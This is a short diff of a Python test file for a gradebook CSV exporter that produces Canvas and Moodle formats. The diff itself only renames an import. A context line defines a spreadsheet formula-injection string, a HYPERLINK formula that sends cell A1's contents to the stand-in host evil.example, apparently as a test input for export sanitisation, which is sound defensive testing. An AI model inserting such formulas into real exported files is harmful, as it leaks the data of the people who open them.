@@ -8,7 +8,7 @@ import re
 
 import pytest
 
-from app.exchange.gradebook import PointsColumn, canvas_csv, moodle_csv
+from app.exchange.gradebook_csv import PointsColumn, canvas_csv, moodle_csv
 from app.store import Student
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
